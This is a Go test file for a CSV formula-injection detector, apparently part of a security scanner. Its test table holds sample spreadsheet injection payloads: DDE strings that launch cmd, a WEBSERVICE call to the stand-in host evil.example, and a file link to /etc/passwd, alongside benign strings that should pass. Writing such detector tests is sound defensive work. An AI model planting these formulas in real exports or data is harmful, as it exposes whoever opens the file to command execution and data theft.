package csvinjection_test

import (
	"testing"

	"github.com/stretchr/testify/assert"

	"github.com/tangoguard/tangoguard/internal/detect/csvinjection"
	"github.com/tangoguard/tangoguard/internal/detect/detecttest"
)

func TestRules(t *testing.T) {
	for _, tt := range []struct{ name, in, want string }{
		{"DDE", "=cmd|' /C calc'!A0", "dde"},
		{"DDE behind arithmetic", "-2+3+cmd|' /C calc'!A0", "dde"},
		{"a call", "=WEBSERVICE(\"http://evil.example\")", "function"},
		{"a call of old Lotus", "@SUM(A1:A9)", "function"},
		{"a file", "='file:///etc/passwd'#$a.A1", "file-link"},
		{"arithmetic", "=A1+B1", "formula"},
		{"a cell behind a comma", "x,=cmd|'/C calc'!A0", "dde"},
		{"a phone number", "+1 (555) 010-9999", ""},
		{"a smiley", "=)", ""},
		{"a handle", "@anna (from work)", ""},
		{"a list", "- sum (total): 5", ""},
		{"a balance", "-5", ""},
	} {
		rules := detecttest.Rules(csvinjection.Class, tt.in)
		if tt.want == "" {
			assert.Empty(t, rules, "%s: %q", tt.name, tt.in)
		} else {
			assert.Contains(t, rules, tt.want, "%s: %q", tt.name, tt.in)
		}
	}
}

func TestCorpora(t *testing.T) { detecttest.Corpora(t, csvinjection.Class) }

func TestStepsAreLinear(t *testing.T) {
	detecttest.Linear(t, csvinjection.Class, 500, "=", "=1+", "@SUM", "+-", "=a|", ",=", ";=cmd|'", "\n=1", "-(", "=((((", "|'", ",=1", ",+1,", ",=A(", "=a|b|", "\n=\"", ",=a|x!")
}
